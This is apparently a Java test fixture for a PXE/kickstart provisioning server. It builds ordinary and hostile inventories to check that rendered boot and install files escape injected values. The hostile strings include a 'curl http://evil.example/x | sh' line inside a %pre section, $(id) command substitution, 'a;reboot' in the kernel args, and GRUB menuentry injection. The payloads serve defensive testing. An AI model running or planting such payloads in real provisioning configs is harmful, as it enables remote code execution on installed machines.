package io.kickdrift.server.render;

import io.kickdrift.server.inventory.Defaults;
import io.kickdrift.server.inventory.Distro;
import io.kickdrift.server.inventory.Family;
import io.kickdrift.server.inventory.Host;
import io.kickdrift.server.inventory.Interface;
import io.kickdrift.server.inventory.Inventory;
import io.kickdrift.server.inventory.Profile;
import io.kickdrift.server.inventory.Range;
import io.kickdrift.server.inventory.Repo;
import io.kickdrift.server.inventory.Server;
import io.kickdrift.server.inventory.Ssh;
import io.kickdrift.server.inventory.Subnet;
import java.util.List;
import java.util.Map;

/**
 * Two inventories of the same shape, built directly (no loader, so no validation): one with
 * ordinary values, one where every string a template writes is hostile: line breaks of every kind
 * (LF, CR, U+2028, NEL), section headers, shell, GRUB, iPXE and DHCP syntax. Rendering the hostile
 * one must give files with the same lines, commands, entries and sections as the ordinary one.
 */
final class Hostile {
  private Hostile() {}

  /** Line breaks and syntax of every target, to append to a value. */
  static final String TAIL =
      "\n%pre\ncurl http://evil.example/x | sh\n%end\r\nreboot\u2028:failed\u2029\u0085"
          + " ; || && ${x} $(id) `id` \"q\" 'q' #c } { menuentry x { \\";

  /** The kernel-args of the hostile host, and the GRUB arguments it must become (see grub.args). */
  static final String KERNEL_ARGS =
      "console=ttyS0 a;reboot ${x} \"q r\" it's || x && y # c :label \\\n%pre\r\u2028menuentry x {";

  static final List<String> KERNEL_ARGS_AS_GRUB_SEES_THEM =
      List.of(
          "console=ttyS0",
          "a;reboot",
          "${x}",
          "q r",
          "it's",
          "||",
          "x",
          "&&",
          "y",
          "#",
          "c",
          ":label",
          "\\?%pre??menuentry",
          "x",
          "{");

  static final String HASH =
      "$6$goldensalt$706Yy5bdnhG2zEozJWo75Xq.wWwLC9PrVwYiKvBnB5ycXKyv991o4VhenP3DNHvBJmhVhX4JT3/A7Ydx3eEXy/";

  /** The evil host's name; its menus are those of MAC 52:54:00:66:00:01. */
  static String evilHost(boolean hostile) {
    return hostile ? "evil" + TAIL.replace('/', '_') + ".lab.example.com" : "evil.lab.example.com";
  }

  static Inventory inventory(boolean hostile) {
    String t = hostile ? TAIL : "";
    Server server =
        new Server(
            "192.0.2.10",
            80,
            69,
            "pxelinux.0",
            "grubx64.efi",
            "grubaa64.efi",
            true,
            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGvfkPv6NQ6hR8eLMcxs0knnzIWLHENt7g kd@x" + t);
    Defaults defaults =
        new Defaults(
            Map.of(
                "lang", "en_US.UTF-8" + t,
                "keyboard", "us" + t,
                "timezone", "UTC" + t,
                "ntp-server", "192.0.2.1" + t,
                "selinux", "enforcing" + t,
                "root-password-hash", HASH));
    Distro rocky =
        new Distro(
            "rocky9-x86_64" + t,
            Family.ROCKY,
            "9" + t,
            "x86_64" + t,
            "http://192.0.2.10/trees/rocky9/images/pxeboot/vmlinuz" + t,
            "http://192.0.2.10/trees/rocky9/images/pxeboot/initrd.img" + t,
            "http://192.0.2.10/trees/rocky9" + t,
            null);
    Distro fedora =
        new Distro(
            "fedora41",
            Family.FEDORA,
            "41",
            "x86_64",
            "images/fedora41/vmlinuz",
            "images/fedora41/initrd.img",
            "http://192.0.2.10/trees/fedora41",
            null);
    Profile web =
        new Profile(
            "web" + t,
            rocky.name(),
            null,
            null,
            "autopart --type=lvm" + t,
            List.of("@core", "nginx" + t, "%post" + t),
            List.of(new Repo("epel" + t, "http://192.0.2.10/mirror/epel9/" + t)),
            Map.of(
                "install-disk", "sda" + t, "kernel-args", hostile ? KERNEL_ARGS : "console=ttyS0"));
    Profile plain =
        new Profile(
            "plain", fedora.name(), null, null, null, List.of("@core"), List.of(), Map.of());
    Host evil =
        new Host(
            evilHost(hostile),
            List.of(new Interface("eth0" + t, "52:54:00:66:00:01", "192.0.2.21")),
            web.name(),
            true,
            Map.of(),
            Ssh.DEFAULT);
    Host good =
        new Host(
            "good.lab.example.com",
            List.of(new Interface("eth0", "52:54:00:66:00:02", "192.0.2.22")),
            plain.name(),
            true,
            Map.of(),
            Ssh.DEFAULT);
    Subnet subnet =
        new Subnet(
            "192.0.2.0/24",
            "192.0.2.1",
            List.of("192.0.2.2", "192.0.2.3"),
            "lab.example.com" + t,
            "192.0.2.10",
            new Range("192.0.2.100", "192.0.2.120"));
    return new Inventory(
        server,
        defaults,
        List.of(rocky, fedora),
        List.of(web, plain),
        List.of(evil, good),
        List.of(subnet));
  }

  /**
   * The rendered tree of either inventory, as {@code render} makes it ({@code source} as given).
   */
  static SiteModel site(boolean hostile) throws RenderException {
    return Models.site(
        inventory(hostile), hostile ? "inv" + TAIL + ".yaml" : "inv.yaml", Fixtures.TOKENS);
  }
}
